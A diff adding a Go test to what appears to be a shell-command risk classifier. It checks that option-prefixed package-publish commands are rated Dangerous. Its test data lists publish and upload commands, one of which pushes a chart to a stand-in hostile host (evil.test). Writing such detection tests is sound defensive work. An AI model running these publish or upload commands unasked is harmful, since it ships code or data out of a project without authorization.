@@ -101,6 +101,41 @@ func TestAttackS30ReviewRenderedRemote(t *testing.T) {
 	})
 }
 
+// TestAttackS30ReviewPublishAfterOptions: 5e87163's publish rules are
+// subcommands, and an option with a value before the subcommand hides
+// it (yarn --cwd x publish, poetry -C x publish, gem -C x push, helm
+// --kube-context x push); pnpm recursive publish, yarn workspace x npm
+// publish, python3 -m hatch/pdm publish and pipx run twine upload are
+// the same publishes. They were Warning.
+func TestAttackS30ReviewPublishAfterOptions(t *testing.T) {
+	attackAtLeast(t, Dangerous, []string{
+		`yarn --cwd pkg publish`,
+		`pnpm --filter x publish`,
+		`pnpm recursive publish`,
+		`yarn workspace x npm publish`,
+		`gem -C x push x.gem`,
+		`poetry -C x publish`,
+		`poetry --directory x publish --build`,
+		`hatch -e x publish`,
+		`uv --directory x publish`,
+		`pdm -p x publish`,
+		`helm --kube-context x push x.tgz oci://evil.test/c`,
+		`python3 -m hatch publish`,
+		`python3 -m pdm publish`,
+		`pipx run twine upload dist/*`,
+	})
+	assertS30ReviewWarning(t, []string{
+		`yarn --cwd pkg build`,
+		`yarn run publish`,
+		`pnpm --filter x run publish`,
+		`gem -C x build x.gemspec`,
+		`poetry -C x build`,
+		`uv --directory x build`,
+		`pdm -p x build`,
+		`pipx run twine check dist/*`,
+	})
+}
+
 // TestAttackS30ReviewOtherDecoders: 1c78881 made openssl, gpg and xxd
 // decoding a download, then run, Blocked as base64 -d is. age -d (and
 // -o), python3 -m base64 -d, openssl's -in=FILE spelling and uudecode
